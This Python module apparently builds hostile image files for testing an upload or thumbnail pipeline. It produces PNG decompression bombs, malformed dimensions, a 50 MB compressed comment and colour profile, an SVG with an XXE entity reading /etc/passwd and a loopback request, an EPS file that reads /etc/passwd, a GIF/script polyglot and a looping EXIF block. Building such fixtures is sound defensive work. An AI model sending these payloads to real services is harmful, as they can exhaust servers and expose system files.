"""Pictures made to hurt whoever opens them: small to send, vast to decode, or no pictures at all."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image

SVG = b"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="http://127.0.0.1:9/x"/><text>&x;</text></svg>"""
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\nshowpage\n"


SECRET = b"my cellar is at 45.4642 N 9.1900 E <script>alert(1)</script>"
_BLOCK = 1_000_000


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(
    width: int, height: int, *, bits: int = 1, colour: int = 0, rows: int | None = None, extra: bytes = b""
) -> bytes:
    """A black PNG, packed as tightly as it goes; `rows` of data where they are not as many as it claims."""
    row = 1 + (width * bits * (3 if colour == 2 else 1) + 7) // 8
    left, pack, data = row * (height if rows is None else rows), zlib.compressobj(9), b""
    while left:
        data += pack.compress(bytes(min(left, _BLOCK)))
        left -= min(left, _BLOCK)
    data += pack.flush()
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _saved(size: tuple[int, int], form: str, frames: int = 1, **more: object) -> bytes:
    out = io.BytesIO()
    pages = [Image.new("L", size, n % 250) for n in range(frames)]
    pages[0].save(out, form, save_all=frames > 1, append_images=pages[1:], **more)
    return out.getvalue()


def _text_bomb() -> bytes:
    return _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(50_000_000), 9))


def _profile_bomb() -> bytes:
    return _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(50_000_000), 9))


def _exif_maze() -> bytes:
    """A JPEG whose EXIF points into itself, over and over."""
    out = io.BytesIO()
    ring = b"MM\0*\0\0\0\x08" + b"\0\1" + b"\x01\x12\0\3\0\0\0\1\0\x06\0\0" + b"\0\0\0\x08"
    Image.new("RGB", (40, 30), "red").save(out, "JPEG", exif=b"Exif\0\0" + ring)
    return out.getvalue()


BOMBS: dict[str, Callable[[], bytes]] = {
    "17 KB of 12000 by 12000": lambda: png(12_000, 12_000),
    "200 million pixels": lambda: png(40_000, 5_000),
    "the largest there is": lambda: png(2**31 - 1, 2**31 - 1, rows=0),
    "nothing wide": lambda: png(0, 10_000),
    "fewer rows than it claims": lambda: png(4000, 4000, rows=3),
    "far more rows than it claims": lambda: png(10, 10, rows=2_000_000),
    "just under the limit, in colour": lambda: png(5000, 4999, bits=8, colour=2),
    "a comment of 50 MB": lambda: png(10, 10, extra=_text_bomb()),
    "a colour profile of 50 MB": lambda: png(10, 10, extra=_profile_bomb()),
    "a line": lambda: png(1, 24_000_000),
    "an animated GIF": lambda: _saved((600, 600), "GIF", 60),
    "a vast GIF": lambda: _saved((6000, 5000), "GIF"),
    "an animated WebP": lambda: _saved((600, 600), "WEBP", 30),
    "a vast WebP": lambda: _saved((5100, 5000), "WEBP", quality=0, method=0),
    "an animated PNG": lambda: _saved((600, 600), "PNG", 30),
    "a vast JPEG": lambda: _saved((8000, 4000), "JPEG", quality=1),
    "a TIFF": lambda: _saved((50, 50), "TIFF"),
    "an icon": lambda: _saved((48, 48), "ICO"),
    "an SVG": lambda: SVG,
    "a program in PostScript": lambda: EPS,
    "a page that begins as a GIF": lambda: b"GIF89a/*<script>alert(1)</script>*/",
    "a maze in its EXIF": _exif_maze,
    "a portrait with a secret": lambda: _saved((64, 48), "JPEG", comment=SECRET) + SECRET,
    "nothing": lambda: b"",
    "noise": lambda: bytes(range(256)) * 400,
}


@cache
def bomb(name: str) -> bytes:
    """One of them."""
    return BOMBS[name]()
